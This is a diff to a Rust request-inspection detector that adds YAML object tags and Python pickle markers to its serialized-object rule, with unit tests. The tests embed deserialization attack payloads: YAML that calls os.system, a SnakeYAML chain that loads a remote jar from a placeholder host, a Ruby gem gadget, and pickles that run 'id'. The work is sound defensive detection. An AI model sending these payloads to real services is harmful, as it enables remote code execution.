@@ -11,7 +11,9 @@
 //! - 100805, server-side includes: an SSI directive (`<!--#exec cmd=…-->`, `<!--#include`).
 //! - 100806, serialized objects: a PHP object (`O:8:"stdClass":1:{…}`, as CRS 933170), a Java
 //!   serialization stream (`\xac\xed\x00\x05`, base64 `rO0AB…`, as CRS 944200/944210) or a
-//!   node-serialize function (`_$$ND_FUNC$$_`, as CRS 934100).
+//!   node-serialize function (`_$$ND_FUNC$$_`, as CRS 934100), a YAML tag that builds an
+//!   arbitrary object (`!!python/object/apply:os.system`, SnakeYAML's
+//!   `!!javax.script.ScriptEngineManager`) or a Python pickle importing `os.system`.
 //! - 100807, prototype pollution: an argument name with a `__proto__` segment or
 //!   `constructor` then `prototype` (`__proto__[isAdmin]=1`, JSON `{"__proto__": {…}}`), as
 //!   CRS 934130.
@@ -112,11 +114,35 @@ const SSI_DIRECTIVES: &[&str] = &[
 const JAVA_BASE64_MAGIC: [&[u8]; 3] = [b"rO0AB", b"KztAAU", b"Cs7QAF"];
 
 /// The shortest value the serialized-object markers are looked for in: the length of the
-/// shortest marker, node-serialize's `_$$ND_FUNC$$_`.
-const SERIALIZED_MIN: usize = 13;
+/// shortest marker, `!!java.`.
+const SERIALIZED_MIN: usize = 7;
 
 /// node-serialize's function marker, as is and in base64 (case matters).
 const NODE_FUNCTION_MARKERS: [&[u8]; 2] = [b"_$$ND_FUNC$$_", b"XyQkTkRfRlVOQyQkX"];
+
+/// YAML tags that make PyYAML, SnakeYAML or Psych build an arbitrary object (case matters).
+const YAML_OBJECT_TAGS: [&[u8]; 9] = [
+    b"!!python/object",
+    b"!!python/name:",
+    b"!!python/module:",
+    b"!!ruby/object:",
+    b"!!ruby/hash:",
+    b"!!javax.",
+    b"!!java.",
+    b"!!com.sun.",
+    b"!!org.",
+];
+
+/// A Python pickle (protocol 0) that imports a command runner, as is and in base64 (case
+/// matters): `cos\nsystem`, `cposix\nsystem`, `c__builtin__\n`.
+const PICKLE_MARKERS: [&[u8]; 6] = [
+    b"cos\nsystem",
+    b"cposix\nsystem",
+    b"c__builtin__\n",
+    b"Y29zCnN5c3RlbQ",
+    b"Y3Bvc2l4CnN5c3RlbQ",
+    b"Y19fYnVpbHRpbl9fC",
+];
 
 /// The server-side injection detector.
 #[derive(Debug)]
@@ -139,7 +165,11 @@ impl ServerSide {
             anywhere: ci(ANYWHERE_GADGETS),
             expression: ci(EXPRESSION_GADGETS),
             serialized: aho_corasick::AhoCorasick::new(
-                JAVA_BASE64_MAGIC.iter().chain(&NODE_FUNCTION_MARKERS),
+                JAVA_BASE64_MAGIC
+                    .iter()
+                    .chain(&NODE_FUNCTION_MARKERS)
+                    .chain(&YAML_OBJECT_TAGS)
+                    .chain(&PICKLE_MARKERS),
             )
             .expect("a small literal set"),
         }
@@ -370,8 +400,21 @@ mod tests {
             "data=O%3A18%3A%22App%5CModels%5CUser%22%3A0%3A%7B%7D",
             "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
             "data=aced00057372",
+            "cfg=%21%21python%2Fobject%2Fapply%3Aos.system+%5B%22id%22%5D",
+            "cfg=!!javax.script.ScriptEngineManager+[!!java.net.URLClassLoader+[[!!java.net.URL+[%22http://x/y.jar%22]]]]",
+            "cfg=--- !ruby/object:Gem::Installer%0A!!ruby/object:Gem::SpecFetcher",
+            "data=cos%0Asystem%0A(S'id'%0AtR.",
+            "data=Y29zCnN5c3RlbQooUydpZCcKdFIu",
         ] {
             assert_eq!(rules_for_query(q), [SERIALIZED_OBJECT], "{q}");
+        }
+        for q in [
+            "msg=Great!!+Python/Django+tips",
+            "yaml=key:+!!str+123",
+            "note=cos+system+design",
+            "t=Y29tcGxldGVk",
+        ] {
+            assert_eq!(rules_for_query(q), [] as [u32; 0], "{q}");
         }
         let found = inspect_post(
             &ServerSide::new(),
